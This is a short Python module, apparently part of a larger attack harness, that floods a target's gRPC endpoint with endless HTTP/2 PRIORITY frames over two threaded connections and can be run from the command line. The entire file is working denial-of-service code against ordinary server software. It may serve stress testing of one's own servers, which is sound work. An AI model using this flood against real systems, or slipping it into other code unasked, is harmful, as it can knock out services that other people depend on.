"""HTTP/2 PRIORITY frames (RFC 9113, 6.3) without end, which no server needs."""

from .arena import Attack, Target, in_threads, strike_from_command_line
from .h2 import PRIORITY, Connection, frame

ATTACK = Attack("PRIORITY flood", "as many frames as 2 connections carry")


def strike(target: Target) -> None:
    """Send them as fast as they are taken."""

    def flood(number: int) -> None:
        connection = Connection(target.grpc)
        many = b"".join(frame(PRIORITY, 0, n, bytes(4) + b"\x10") for n in range(1, 20001, 2))
        while True:
            connection.socket.sendall(many)

    in_threads(2, flood)


if __name__ == "__main__":
    strike_from_command_line(strike)
